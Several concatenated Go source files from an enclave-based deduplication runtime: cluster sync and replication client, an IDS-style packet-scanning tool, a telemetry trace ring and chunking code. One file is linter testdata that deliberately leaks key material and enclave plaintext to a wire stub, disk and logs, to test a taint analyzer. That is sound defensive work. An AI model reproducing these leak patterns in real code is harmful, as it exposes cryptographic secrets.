			if cur, ok := best[e.Tag]; !ok || e.Hits > cur.Hits {
				best[e.Tag] = e
			}
		}
	}

	s.mu.Lock()
	candidates := make([]wire.PutItem, 0, len(best))
	for tag, e := range best {
		if s.seen[tag] {
			continue
		}
		candidates = append(candidates, wire.PutItem{Tag: tag, Sealed: e.Sealed})
	}
	s.mu.Unlock()
	if len(candidates) == 0 {
		return 0, pullErr
	}

	// Chunk-wise transfer: probe each candidate's write targets before
	// shipping bytes. With chunked dedup the hot set is dominated by
	// content-addressed chunks shared across results and members, so the
	// owners frequently already hold an entry another member reported
	// hot — skipping it saves the sealed payload on the wire, not just a
	// duplicate insert at the destination. A candidate is skipped only
	// when EVERY member PutBatch would replicate to already has it; the
	// probe is a hint, so a false negative costs one redundant transfer,
	// never correctness.
	items := candidates
	if present := s.c.hasAtWriteTargets(tagsOf(candidates)); len(present) == len(candidates) {
		items = items[:0]
		skipped := 0
		s.mu.Lock()
		for i, it := range candidates {
			if present[i] {
				s.seen[it.Tag] = true
				skipped++
				continue
			}
			items = append(items, it)
		}
		s.skipped += int64(skipped)
		s.mu.Unlock()
		s.skippedC.Add(int64(skipped))
	}
	if len(items) == 0 {
		return 0, pullErr
	}

	prs, err := s.c.PutBatch(items)
	if err != nil {
		return 0, fmt.Errorf("cluster: sync place: %w", err)
	}
	copied := 0
	s.mu.Lock()
	for i, pr := range prs {
		if pr.OK {
			s.seen[items[i].Tag] = true
			copied++
		}
	}
	s.copies += int64(copied)
	s.mu.Unlock()
	s.copiesC.Add(int64(copied))
	return copied, pullErr
}

// Copied reports the cumulative number of entries placed across all
// passes.
func (s *Syncer) Copied() int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.copies
}

// Skipped reports the cumulative number of hot entries whose transfer
// was avoided because the owner already held them.
func (s *Syncer) Skipped() int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.skipped
}

// Start launches periodic synchronization; calling it more than once is
// a no-op. Stop shuts it down.
func (s *Syncer) Start() {
	s.mu.Lock()
	if s.started {
		s.mu.Unlock()
		return
	}
	s.started = true
	s.mu.Unlock()
	go s.syncLoop()
}

func (s *Syncer) syncLoop() {
	defer close(s.done)
	ticker := time.NewTicker(s.cfg.Interval)
	defer ticker.Stop()
	for {
		select {
		case <-s.stop:
			return
		case <-ticker.C:
			if _, err := s.SyncOnce(); err != nil {
				s.logf("cluster: sync pass: %v", err)
			}
		}
	}
}

// Stop terminates periodic synchronization and, if Start was called,
// waits for the worker to exit. Safe to call multiple times.
func (s *Syncer) Stop() {
	s.once.Do(func() { close(s.stop) })
	s.mu.Lock()
	started := s.started
	s.mu.Unlock()
	if started {
		<-s.done
	}
}
