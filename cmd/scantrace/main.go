// Command scantrace is an end-to-end IDS-style tool over the pattern
// and workload substrates: it generates (or reads) a packet trace,
// compiles a rule set, and scans every packet — optionally through
// SPEED, deduplicating repeated packets exactly as the paper's online
// virus scanner scenario describes.
//
// Usage:
//
//	scantrace -gen trace.spt -packets 5000 -distinct 500   # synthesize a trace
//	scantrace -trace trace.spt -rules rules.txt            # scan without SPEED
//	scantrace -trace trace.spt -rules rules.txt -dedup     # scan with SPEED
//	scantrace -rules-gen rules.txt -count 3700             # synthesize rules
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"time"

	"speed"
	"speed/internal/pattern"
	"speed/internal/workload"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "scantrace:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("scantrace", flag.ContinueOnError)
	gen := fs.String("gen", "", "write a synthetic trace to this path and exit")
	packets := fs.Int("packets", 5000, "packets to generate (with -gen)")
	distinct := fs.Int("distinct", 500, "distinct packets in the generated trace (Zipf-repeated)")
	pktSize := fs.Int("pktsize", 1400, "packet payload size (with -gen)")
	seed := fs.Int64("seed", 1, "generator seed")
	rulesGen := fs.String("rules-gen", "", "write a synthetic rule file to this path and exit")
	count := fs.Int("count", 3700, "rules to generate (with -rules-gen)")
	trace := fs.String("trace", "", "trace file to scan")
	rules := fs.String("rules", "", "Snort-like rule file")
	dedup := fs.Bool("dedup", false, "scan through SPEED (deduplicated)")
	if err := fs.Parse(args); err != nil {
		return err
	}

	src := workload.New(*seed)
	switch {
	case *rulesGen != "":
		return generateRules(src, *rulesGen, *count)
	case *gen != "":
		return generateTrace(src, *gen, *packets, *distinct, *pktSize)
	case *trace != "" && *rules != "":
		return scan(*trace, *rules, *dedup)
	default:
		fs.Usage()
		return fmt.Errorf("specify -gen, -rules-gen, or -trace with -rules")
	}
}

func generateRules(src *workload.Source, path string, n int) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	for _, r := range src.SnortRules(n) {
		if _, err := fmt.Fprintln(f, pattern.FormatRule(r)); err != nil {
			return err
		}
	}
	fmt.Printf("wrote %d rules to %s\n", n, path)
	return nil
}

func generateTrace(src *workload.Source, path string, packets, distinct, pktSize int) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	// Rule hits come from a generated set with the same seed, so a
	// rules file produced with -rules-gen and the same seed matches.
	rules := src.SnortRules(200)
	pool := workload.DupStream(src, packets, distinct, func(i int) []byte {
		return src.Packet(pktSize, rules, 0.1)
	})
	tw := workload.NewTraceWriter(f)
	for _, pkt := range pool {
		if err := tw.WritePacket(pkt); err != nil {
			return err
		}
	}
	if err := tw.Flush(); err != nil {
		return err
	}
	fmt.Printf("wrote %d packets (%d distinct) to %s\n", packets, distinct, path)
	return nil
}

func scan(tracePath, rulesPath string, useDedup bool) error {
	rf, err := os.Open(rulesPath)
	if err != nil {
		return err
	}
	defer rf.Close()
	parsed, err := pattern.ParseRules(rf)
	if err != nil {
		return err
	}
	rs, err := pattern.CompileRules(parsed)
	if err != nil {
		return err
	}

	tf, err := os.Open(tracePath)
	if err != nil {
		return err
	}
	defer tf.Close()
	pkts, err := workload.ReadAllPackets(tf)
	if err != nil {
		return err
	}
	fmt.Printf("scanning %d packets against %d rules (dedup=%v)\n", len(pkts), rs.Len(), useDedup)

	scanOne := func(p []byte) ([]byte, error) {
		return pattern.EncodeScanResult(rs.Scan(p)), nil
	}

	var flagged, scanned int
	start := time.Now()
	if !useDedup {
		for _, p := range pkts {
			res, err := scanOne(p)
			if err != nil {
				return err
			}
			ids, err := pattern.DecodeScanResult(res)
			if err != nil {
				return err
			}
			scanned++
			if len(ids) > 0 {
				flagged++
			}
		}
	} else {
		sys, err := speed.NewSystem()
		if err != nil {
			return err
		}
		defer sys.Close()
		app, err := sys.NewApp("scantrace", []byte("scantrace v1"))
		if err != nil {
			return err
		}
		defer app.Close()
		app.RegisterLibrary("scan-engine", "1.0", []byte("engine code"))
		scanD, err := speed.NewDeduplicable(app,
			speed.FuncDesc{Library: "scan-engine", Version: "1.0", Signature: "scan(packet)"},
			scanOne,
			speed.WithInputCodec[[]byte, []byte](speed.BytesCodec{}),
			speed.WithOutputCodec[[]byte, []byte](speed.BytesCodec{}),
		)
		if err != nil {
			return err
		}
		for _, p := range pkts {
			res, err := scanD.Call(p)
			if err != nil {
				return err
			}
			ids, err := pattern.DecodeScanResult(res)
			if err != nil {
				return err
			}
			scanned++
			if len(ids) > 0 {
				flagged++
			}
		}
		st := app.Stats()
		fmt.Printf("dedup: %d computed, %d reused (%.0f%% hit rate)\n",
			st.Computed, st.Reused, float64(st.Reused)/float64(st.Calls)*100)
		printPhaseSummary(app)
		fmt.Printf("dedup: enclave: %d ecalls, %d ocalls, %d page faults, %d heap bytes allocated\n",
			st.ECalls, st.OCalls, st.PageFaults, st.AllocBytes)
	}
	elapsed := time.Since(start)
	fmt.Printf("scanned %d packets in %v (%.0f pkt/s), %d flagged\n",
		scanned, elapsed.Round(time.Millisecond),
		float64(scanned)/elapsed.Seconds(), flagged)
	return nil
}

// printPhaseSummary prints the per-phase Execute latency quantiles the
// runtime recorded during the scan.
func printPhaseSummary(app *speed.App) {
	snap := app.Telemetry().Snapshot()
	rows := snap.HistogramsByFamily("speed_execute_phase_seconds")
	if len(rows) == 0 {
		return
	}
	fmt.Println("dedup: phase latency             count       p50       p95       p99")
	for _, h := range rows {
		phase := h.Name
		if i := strings.Index(phase, `phase="`); i >= 0 {
			phase = phase[i+len(`phase="`):]
			if j := strings.IndexByte(phase, '"'); j >= 0 {
				phase = phase[:j]
			}
		}
		fmt.Printf("dedup:   %-20s %8d %9v %9v %9v\n", phase, h.Count,
			secondsToDuration(h.P50), secondsToDuration(h.P95), secondsToDuration(h.P99))
	}
}

func secondsToDuration(s float64) time.Duration {
	return time.Duration(s * float64(time.Second)).Round(100 * time.Nanosecond)
}
