package telemetry

import (
	"sync"
	"time"
)

// DefaultTraceCapacity is the number of recent trace events a
// registry's ring retains.
const DefaultTraceCapacity = 256

// PhaseSpan is one timed phase of a traced call, as an offset from the
// call's start plus a duration, both in nanoseconds.
type PhaseSpan struct {
	Name    string `json:"name"`
	StartNS int64  `json:"start_ns"`
	DurNS   int64  `json:"dur_ns"`
}

// TraceEvent is one sampled call trace: which operation ran where, how
// it was satisfied, and where its time went phase by phase. When the
// call participated in a distributed trace, TraceID/SpanID/ParentID
// carry the hex-encoded wire trace context so spans recorded on
// different nodes assemble into one tree (ParentID links to the parent
// span's SpanID; the root span has an empty ParentID). Node names the
// process that recorded the span, so assembled traces stay
// attributable after rings from several nodes are merged.
type TraceEvent struct {
	Time     time.Time   `json:"time"`
	App      string      `json:"app,omitempty"`
	Name     string      `json:"name"`
	ID       string      `json:"id,omitempty"`
	Outcome  string      `json:"outcome,omitempty"`
	TotalNS  int64       `json:"total_ns"`
	Err      string      `json:"err,omitempty"`
	TraceID  string      `json:"trace_id,omitempty"`
	SpanID   string      `json:"span_id,omitempty"`
	ParentID string      `json:"parent_id,omitempty"`
	Node     string      `json:"node,omitempty"`
	Phases   []PhaseSpan `json:"phases,omitempty"`
}

// TraceRing is a fixed-capacity ring buffer of sampled trace events.
// Producers are expected to sample (e.g. one call in N) before adding,
// so the mutex here is off the hot path. A nil *TraceRing swallows
// events.
type TraceRing struct {
	mu    sync.Mutex
	buf   []TraceEvent
	next  int
	total uint64
}

// NewTraceRing creates a ring holding up to capacity events (a
// non-positive capacity selects DefaultTraceCapacity).
func NewTraceRing(capacity int) *TraceRing {
	if capacity <= 0 {
		capacity = DefaultTraceCapacity
	}
	return &TraceRing{buf: make([]TraceEvent, 0, capacity)}
}

// Add records an event, evicting the oldest once the ring is full.
func (t *TraceRing) Add(ev TraceEvent) {
	if t == nil {
		return
	}
	t.mu.Lock()
	if len(t.buf) < cap(t.buf) {
		t.buf = append(t.buf, ev)
	} else {
		t.buf[t.next] = ev
	}
	t.next = (t.next + 1) % cap(t.buf)
	t.total++
	t.mu.Unlock()
}

// Total reports how many events have ever been added (including those
// already evicted).
func (t *TraceRing) Total() uint64 {
	if t == nil {
		return 0
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.total
}

// Events returns the retained events, newest first.
func (t *TraceRing) Events() []TraceEvent { return t.EventsN(0) }

// EventsN returns up to limit retained events, newest first. A
// non-positive limit returns everything retained.
func (t *TraceRing) EventsN(limit int) []TraceEvent {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	n := len(t.buf)
	if limit > 0 && limit < n {
		n = limit
	}
	out := make([]TraceEvent, 0, n)
	for i := 0; i < n; i++ {
		idx := t.next - 1 - i
		for idx < 0 {
			idx += len(t.buf)
		}
		out = append(out, t.buf[idx])
	}
	return out
}

// EventsForTrace returns the retained events belonging to one
// distributed trace, newest first.
func (t *TraceRing) EventsForTrace(traceID string) []TraceEvent {
	if t == nil || traceID == "" {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	var out []TraceEvent
	for i := 0; i < len(t.buf); i++ {
		idx := t.next - 1 - i
		for idx < 0 {
			idx += len(t.buf)
		}
		if t.buf[idx].TraceID == traceID {
			out = append(out, t.buf[idx])
		}
	}
	return out
}
