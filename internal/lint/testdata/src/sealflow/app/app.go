// Package app exercises the sealflow analyzer: key material and
// dictionary plaintext flowing to wire, disk and log sinks, with and
// without a sealing call on the way.
package app

import (
	"fmt"
	"os"

	"fix/sealflow/engine"
	"fix/sealflow/mle"
)

// Conn matches the wire-channel shape: Send counts as a conn sink.
type Conn struct{}

func (Conn) Send(b []byte) error { return nil }

// Seal stands in for the enclave sealing primitive (a sanitizer).
func Seal(b []byte) []byte { return b }

func deriveKey() []byte { return make([]byte, 32) }

// leakKeyToWire sends raw key material over the channel.
func leakKeyToWire(c Conn) error {
	key := deriveKey()
	return c.Send(key) // want `key material reaches the wire`
}

// sendSealed is the legal path: only ciphertext crosses the channel.
func sendSealed(c Conn) error {
	key := deriveKey()
	return c.Send(Seal(key))
}

// leakChallengeToDisk writes a dictionary secret unsealed.
func leakChallengeToDisk(rec engine.Record) error {
	return os.WriteFile("r.bin", rec.Challenge, 0o600) // want `enclave plaintext reaches the untrusted disk`
}

// writeBlob is fine: Blob is already AEAD ciphertext.
func writeBlob(rec engine.Record) error {
	return os.WriteFile("r.bin", rec.Blob, 0o600)
}

// encode keeps the dictionary taint alive through a helper: its result
// carries enclave plaintext in the caller (summary propagation).
func encode(rec engine.Record) []byte {
	out := append([]byte(nil), rec.Challenge...)
	out = append(out, rec.WrappedKey...)
	return out
}

// writeOut is a summarised disk sink: tainted arguments flag at the
// caller, not here.
func writeOut(b []byte) error {
	return os.WriteFile("out.bin", b, 0o600)
}

// flushUnsealed leaks through the encode→writeOut helper chain.
func flushUnsealed(rec engine.Record) error {
	return writeOut(encode(rec)) // want `enclave plaintext reaches the untrusted disk`
}

// flushSealed seals before the helper sink: clean.
func flushSealed(rec engine.Record) error {
	return writeOut(Seal(encode(rec)))
}

// logKey prints key material: a telemetry sink.
func logKey() {
	key := deriveKey()
	fmt.Printf("key=%x\n", key) // want `key material reaches a log/telemetry call`
}

// logKeyLen is clean: len() is a public projection of the secret.
func logKeyLen() {
	key := deriveKey()
	fmt.Printf("key bytes=%d\n", len(key))
}

// encodeManifest serialises per-chunk envelopes into a manifest body,
// the chunked-dedup seal surface: copying WrappedKey makes the result
// enclave plaintext; the Blob bytes alone would not.
func encodeManifest(chunks []mle.Sealed) []byte {
	var out []byte
	for _, c := range chunks {
		out = append(out, c.WrappedKey...)
		out = append(out, c.Blob...)
	}
	return out
}

// spoolManifestUnsealed writes the manifest body to disk before
// sealing it.
func spoolManifestUnsealed(chunks []mle.Sealed) error {
	return os.WriteFile("manifest.bin", encodeManifest(chunks), 0o600) // want `enclave plaintext reaches the untrusted disk`
}

// spoolManifestSealed is the legal chunked-dedup path: the manifest is
// sealed under the call's function identity before leaving the
// enclave.
func spoolManifestSealed(chunks []mle.Sealed) error {
	return os.WriteFile("manifest.bin", mle.Encrypt(encodeManifest(chunks)), 0o600)
}

// run invokes its callback, standing in for the Enclave.ECall idiom;
// the analyzer inlines the literal at the call site.
func run(f func() error) error { return f() }

// closureSeal seals inside a closure; the captured result is clean.
func closureSeal(c Conn, rec engine.Record) error {
	var sealed []byte
	if err := run(func() error {
		sealed = Seal(encode(rec))
		return nil
	}); err != nil {
		return err
	}
	return c.Send(sealed)
}

// closureLeak taints a captured variable inside the closure; the send
// after the call sees it.
func closureLeak(c Conn) error {
	var buf []byte
	_ = run(func() error {
		buf = deriveKey()
		return nil
	})
	return c.Send(buf) // want `key material reaches the wire`
}
