package cluster

import (
	"errors"
	"fmt"
	"log"
	"sync"
	"sync/atomic"
	"time"

	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/telemetry"
	"speed/internal/wire"
)

// Config describes a static-membership ResultStore cluster.
type Config struct {
	// Nodes lists the member resultstore addresses (host:port). The
	// ring hashes addresses, not list positions, so reordering the list
	// does not move data. Required, at least one member.
	Nodes []string
	// Replicas is how many distinct members store each tag (the primary
	// plus R-1 ring successors). Zero selects min(2, len(Nodes));
	// values above len(Nodes) are clamped.
	Replicas int
	// VNodes is the virtual-node count per member on the ring; zero
	// selects the default (64).
	VNodes int
	// App is the application enclave the per-node attested channels are
	// established from. Required.
	App *enclave.Enclave
	// StoreMeasurement is the store enclave measurement every member
	// must prove during its handshake — all members run the same store
	// code, so one pinned measurement covers the whole ring.
	StoreMeasurement enclave.Measurement
	// Remote configures each member's underlying RemoteClient
	// (deadlines, retry schedule, protocol pin, trust set). Lazy is
	// forced on: the cluster client must construct even while some
	// members are down, and the health prober finds them later.
	Remote dedup.RemoteConfig
	// FailThreshold is the number of consecutive transport failures
	// after which a member is marked down and skipped by the router
	// until a health probe succeeds. Zero selects the default (3).
	FailThreshold int
	// ProbeInterval is the background health-probe cadence; each probe
	// is a Ping (a full round trip with zero store operations). Zero
	// selects the default (500ms).
	ProbeInterval time.Duration
	// Telemetry, when non-nil, registers the per-node cluster series:
	// speed_cluster_node_up, speed_cluster_routed_total,
	// speed_cluster_failovers_total and speed_cluster_read_repairs_total.
	Telemetry *telemetry.Registry
	// Logf is the diagnostic logger; defaults to log.Printf.
	Logf func(format string, args ...any)
}

// errClientClosed is returned from requests after Close.
var errClientClosed = errors.New("cluster: client closed")

// node is one ring member: its transport plus the up/down health state
// machine the router consults.
type node struct {
	addr   string
	client *dedup.RemoteClient

	// up flips down after FailThreshold consecutive transport failures
	// and back up on any successful exchange (request or probe).
	up    atomic.Bool
	fails atomic.Int64

	// Nil-safe telemetry mirrors.
	routedGet  *telemetry.Counter
	routedPut  *telemetry.Counter
	failoversC *telemetry.Counter
}

// Client routes StoreClient/BatchClient traffic over the ring: every
// GET goes to the tag's primary (failing over along the replica set on
// transport errors, with read-repair back to the primary), every PUT is
// replicated to the tag's R owners, and batches are split by owner and
// run as parallel per-node round trips. It drops into
// dedup.Config.Client unchanged; when every member is unreachable its
// errors feed the Runtime's circuit breaker exactly as a single store's
// would, so degradation accounting keeps working.
type Client struct {
	cfg      Config
	ring     *ring
	nodes    []*node
	replicas int
	logf     func(format string, args ...any)

	closed atomic.Bool
	stop   chan struct{}
	probeD chan struct{}

	// repairWG tracks asynchronous read-repair uploads so Close never
	// leaks a goroutine mid-PUT.
	repairWG sync.WaitGroup

	failovers   atomic.Int64
	readRepairs atomic.Int64

	// reg is the telemetry registry (nil when unconfigured), used to
	// record per-leg routing spans of sampled requests into the trace
	// ring.
	reg          *telemetry.Registry
	readRepairsC *telemetry.Counter
}

var (
	_ dedup.BatchClient  = (*Client)(nil)
	_ dedup.TracedClient = (*Client)(nil)
	_ dedup.HasBatcher   = (*Client)(nil)
)

// New builds the cluster client and dials its members lazily: members
// that are down at construction are simply marked down by the first
// probe and picked up when they appear.
func New(cfg Config) (*Client, error) {
	if len(cfg.Nodes) == 0 {
		return nil, errors.New("cluster: Config.Nodes is required")
	}
	if cfg.App == nil {
		return nil, errors.New("cluster: Config.App is required")
	}
	if cfg.Replicas <= 0 {
		cfg.Replicas = 2
	}
	if cfg.Replicas > len(cfg.Nodes) {
		cfg.Replicas = len(cfg.Nodes)
	}
	if cfg.FailThreshold <= 0 {
		cfg.FailThreshold = 3
	}
	if cfg.ProbeInterval <= 0 {
		cfg.ProbeInterval = 500 * time.Millisecond
	}
	if cfg.Logf == nil {
		cfg.Logf = log.Printf
	}
	c := &Client{
		cfg:      cfg,
		ring:     newRing(cfg.Nodes, cfg.VNodes),
		replicas: cfg.Replicas,
		logf:     cfg.Logf,
		stop:     make(chan struct{}),
		probeD:   make(chan struct{}),
	}
	for _, addr := range cfg.Nodes {
		rcfg := cfg.Remote
		rcfg.Lazy = true
		nc, err := dedup.DialConfig(addr, cfg.App, cfg.StoreMeasurement, rcfg)
		if err != nil {
			return nil, fmt.Errorf("cluster: member %s: %w", addr, err)
		}
		n := &node{addr: addr, client: nc}
		n.up.Store(true) // optimistic; the first probe corrects
		c.nodes = append(c.nodes, n)
	}
	c.registerTelemetry(cfg.Telemetry)
	go c.probeLoop()
	return c, nil
}

func (c *Client) registerTelemetry(reg *telemetry.Registry) {
	if reg == nil {
		return
	}
	c.reg = reg
	c.readRepairsC = reg.NewCounter("speed_cluster_read_repairs_total",
		"results copied back to their primary after a failover read")
	for _, n := range c.nodes {
		n := n
		nodeLabel := telemetry.L("node", n.addr)
		reg.NewGaugeFunc("speed_cluster_node_up",
			"1 while the member is routable, 0 while marked down",
			func() float64 {
				if n.up.Load() {
					return 1
				}
				return 0
			}, nodeLabel)
		n.routedGet = reg.NewCounter("speed_cluster_routed_total",
			"requests routed to this member", nodeLabel, telemetry.L("op", "get"))
		n.routedPut = reg.NewCounter("speed_cluster_routed_total",
			"requests routed to this member", nodeLabel, telemetry.L("op", "put"))
		n.failoversC = reg.NewCounter("speed_cluster_failovers_total",
			"requests re-routed away from this member after a transport failure", nodeLabel)
	}
}

// Nodes reports the configured member addresses, in ring-member order.
func (c *Client) Nodes() []string { return append([]string(nil), c.cfg.Nodes...) }

// Replicas reports the effective replication factor.
func (c *Client) Replicas() int { return c.replicas }

// Failovers reports how many times a request was re-routed away from a
// failed member.
func (c *Client) Failovers() int64 { return c.failovers.Load() }

// ReadRepairs reports how many results were copied back to their
// primary after a failover read found them on a successor.
func (c *Client) ReadRepairs() int64 { return c.readRepairs.Load() }

// Retries aggregates the members' request-retry counters, surfacing
// them through dedup.Stats.Retries exactly as a single RemoteClient
// would.
func (c *Client) Retries() int64 {
	var total int64
	for _, n := range c.nodes {
		total += n.client.Retries()
	}
	return total
}

// readOrder returns node indexes in the order a read for the tag should
// try them: live replica owners in ring order, then live non-owners
// (results land there when every owner was down at write time), then
// the down owners as a last resort.
func (c *Client) readOrder(tag mle.Tag) []int {
	all := c.ring.owners(tag, len(c.nodes))
	order := make([]int, 0, len(all))
	for _, ni := range all[:c.replicas] {
		if c.nodes[ni].up.Load() {
			order = append(order, ni)
		}
	}
	for _, ni := range all[c.replicas:] {
		if c.nodes[ni].up.Load() {
			order = append(order, ni)
		}
	}
	for _, ni := range all[:c.replicas] {
		if !c.nodes[ni].up.Load() {
			order = append(order, ni)
		}
	}
	return order
}

// writeTargets returns the members a PUT for the tag should be
// replicated to: the first Replicas live members in ring order (so a
// down owner's writes slide to the next successor instead of being
// lost), or the owner set itself when every member is down — they may
// be back by the time the request lands.
func (c *Client) writeTargets(tag mle.Tag) []int {
	all := c.ring.owners(tag, len(c.nodes))
	targets := make([]int, 0, c.replicas)
	for _, ni := range all {
		if len(targets) == c.replicas {
			break
		}
		if c.nodes[ni].up.Load() {
			targets = append(targets, ni)
		}
	}
	if len(targets) == 0 {
		targets = append(targets, all[:c.replicas]...)
	}
	return targets
}

// forwardLeg derives the context one routing leg forwards to a member:
// the same trace, with Parent re-pointed at a fresh leg span so the
// member's server-side span chains through this leg back to the
// runtime's root. Unsampled contexts pass through untouched.
func forwardLeg(tc wire.TraceContext) (wire.TraceContext, uint64) {
	if !tc.Valid() {
		return tc, 0
	}
	leg := wire.NewSpanID()
	fwd := tc
	fwd.Parent = leg
	return fwd, leg
}

// recordLeg records one routing leg of a sampled request as a child
// span in the trace ring: ParentID is the caller's span (the runtime's
// root), ID names the member the leg targeted, and the outcome
// distinguishes hits, misses, replica writes and failed legs (which
// the router then fails over from). No-op when unsampled or telemetry
// is off.
func (c *Client) recordLeg(tc wire.TraceContext, leg uint64, op, member string, start time.Time, outcome string, err error) {
	if c.reg == nil || !tc.Valid() {
		return
	}
	ev := telemetry.TraceEvent{
		Time:     time.Now(),
		Name:     op,
		ID:       member,
		TotalNS:  time.Since(start).Nanoseconds(),
		TraceID:  tc.TraceIDHex(),
		SpanID:   wire.SpanIDHex(leg),
		ParentID: wire.SpanIDHex(tc.Parent),
		Node:     c.reg.Node(),
	}
	if err != nil {
		ev.Err = err.Error()
	} else {
		ev.Outcome = outcome
	}
	c.reg.Trace().Add(ev)
}

// legClock stamps a start time only for sampled requests, so the
// unsampled path never reads the clock.
func legClock(tc wire.TraceContext) time.Time {
	if !tc.Valid() {
		return time.Time{}
	}
	return time.Now()
}

// Get implements dedup.StoreClient: the tag's primary answers; on a
// transport error the read fails over along the replica set, and a
// result found on a successor is repaired back to the primary in the
// background. A miss from a reachable member is authoritative — misses
// never fail over, so a cold primary costs one recomputation, not a
// cluster-wide search.
func (c *Client) Get(tag mle.Tag) (mle.Sealed, bool, error) {
	return c.GetTraced(wire.TraceContext{}, tag)
}

// GetTraced implements dedup.TracedClient: Get with each routing leg —
// including the failover legs — recorded as a child span of the
// caller's trace and the context forwarded to the member that served
// it.
func (c *Client) GetTraced(tc wire.TraceContext, tag mle.Tag) (mle.Sealed, bool, error) {
	if c.closed.Load() {
		return mle.Sealed{}, false, errClientClosed
	}
	primary := c.ring.owners(tag, 1)[0]
	var lastErr error
	for _, ni := range c.readOrder(tag) {
		n := c.nodes[ni]
		start := legClock(tc)
		fwd, leg := forwardLeg(tc)
		sealed, found, err := n.client.GetTraced(fwd, tag)
		if err != nil {
			c.recordLeg(tc, leg, "route_get", n.addr, start, "", err)
			c.noteFailure(n, err)
			c.noteFailover(n, 1)
			lastErr = err
			continue
		}
		outcome := "miss"
		if found {
			outcome = "hit"
		}
		c.recordLeg(tc, leg, "route_get", n.addr, start, outcome, nil)
		c.noteSuccess(n)
		n.routedGet.Inc()
		if found && ni != primary {
			c.repairAsync(primary, tc, []wire.PutItem{{Tag: tag, Sealed: sealed}})
		}
		return sealed, found, nil
	}
	return mle.Sealed{}, false, fmt.Errorf("cluster: get: no member reachable: %w", lastErr)
}

// Put implements dedup.StoreClient, replicating the upload to the
// tag's write targets in parallel. The put succeeds when any replica
// accepted it; a store-level rejection (quota, authorization) is only
// surfaced when no replica accepted.
func (c *Client) Put(tag mle.Tag, sealed mle.Sealed, replace bool) error {
	return c.PutTraced(wire.TraceContext{}, tag, sealed, replace)
}

// PutTraced implements dedup.TracedClient: Put with each replica leg
// recorded as a child span of the caller's trace.
func (c *Client) PutTraced(tc wire.TraceContext, tag mle.Tag, sealed mle.Sealed, replace bool) error {
	if c.closed.Load() {
		return errClientClosed
	}
	targets := c.writeTargets(tag)
	errs := make([]error, len(targets))
	var wg sync.WaitGroup
	for i, ni := range targets {
		i, n := i, c.nodes[ni]
		wg.Add(1)
		go func() {
			defer wg.Done()
			start := legClock(tc)
			fwd, leg := forwardLeg(tc)
			errs[i] = n.client.PutTraced(fwd, tag, sealed, replace)
			c.recordLeg(tc, leg, "route_put", n.addr, start, "replicated", errs[i])
			if errs[i] == nil || errors.Is(errs[i], dedup.ErrPutRejected) {
				c.noteSuccess(n)
				n.routedPut.Inc()
			} else {
				c.noteFailure(n, errs[i])
			}
		}()
	}
	wg.Wait()
	var reject, lastErr error
	for _, err := range errs {
		switch {
		case err == nil:
			return nil
		case errors.Is(err, dedup.ErrPutRejected):
			reject = err
		default:
			lastErr = err
		}
	}
	if reject != nil {
		return reject
	}
	return fmt.Errorf("cluster: put: no replica reachable: %w", lastErr)
}

// Ping implements dedup.StoreClient: the cluster is alive while any
// member answers a probe. Live members are tried first.
func (c *Client) Ping() error {
	if c.closed.Load() {
		return errClientClosed
	}
	var lastErr error
	for _, pass := range []bool{true, false} {
		for _, n := range c.nodes {
			if n.up.Load() != pass {
				continue
			}
			if err := n.client.Ping(); err != nil {
				c.noteFailure(n, err)
				lastErr = err
				continue
			}
			c.noteSuccess(n)
			return nil
		}
	}
	return fmt.Errorf("cluster: ping: no member reachable: %w", lastErr)
}

// Close implements dedup.StoreClient: it stops the health prober,
// drains in-flight read repairs, and closes every member channel.
func (c *Client) Close() error {
	if !c.closed.CompareAndSwap(false, true) {
		return nil
	}
	close(c.stop)
	<-c.probeD
	c.repairWG.Wait()
	var firstErr error
	for _, n := range c.nodes {
		if err := n.client.Close(); err != nil && firstErr == nil {
			firstErr = err
		}
	}
	return firstErr
}

// repairAsync uploads items found on a replica back to their primary,
// best-effort and off the caller's path. Repairs only run while the
// primary is routable; a failed repair is dropped (the next failover
// read will try again). A sampled read's repair leg is recorded as a
// child span of the same trace, so the console shows the write-back a
// failover read triggered.
func (c *Client) repairAsync(primary int, tc wire.TraceContext, items []wire.PutItem) {
	n := c.nodes[primary]
	if !n.up.Load() || c.closed.Load() {
		return
	}
	c.repairWG.Add(1)
	go func() {
		defer c.repairWG.Done()
		start := legClock(tc)
		fwd, leg := forwardLeg(tc)
		_, err := n.client.PutBatchTraced(fwd, items)
		c.recordLeg(tc, leg, "read_repair", n.addr, start, "repaired", err)
		if err != nil {
			c.noteFailure(n, err)
			return
		}
		c.noteSuccess(n)
		c.readRepairs.Add(int64(len(items)))
		c.readRepairsC.Add(int64(len(items)))
	}()
}
