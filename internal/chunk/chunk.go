// Package chunk implements SPEED's sub-result deduplication layer:
// FastCDC-style content-defined chunking, per-chunk tag/key derivation
// over the mle machinery, and the sealed manifest that replaces a large
// result's stored value (ordered chunk references plus a whole-result
// digest).
//
// Whole-result dedup shares bytes only between byte-identical results.
// Two near-identical computations — the same image at two crops, the
// same trace re-scanned with one new rule — share nothing even though
// their outputs overlap almost entirely. Content-defined chunking cuts
// results at positions chosen by a rolling hash of the content itself,
// so an insertion or deletion shifts only the chunks it touches and the
// overlapping remainder keeps identical chunk boundaries, identical
// chunk hashes, and therefore identical chunk tags across applications
// (convergence holds chunk-wise; see crypto.go).
//
// Determinism is a correctness requirement, not an optimisation: two
// independent runtimes only share chunks if they derive the same gear
// table, the same masks and the same boundaries. Everything here is a
// pure function of (Config, content) — no randomness, no process state.
package chunk

import (
	"errors"
	"fmt"
	"math/bits"
)

// Default chunking geometry. The averages follow the classic CDC
// storage-dedup sweet spot: small enough that an edited result re-uses
// most of its neighbourhood, large enough that per-chunk overheads
// (tags, dictionary entries, GCM tags) stay below a percent or two.
const (
	// DefaultMin is the minimum chunk size; the cut-point search skips
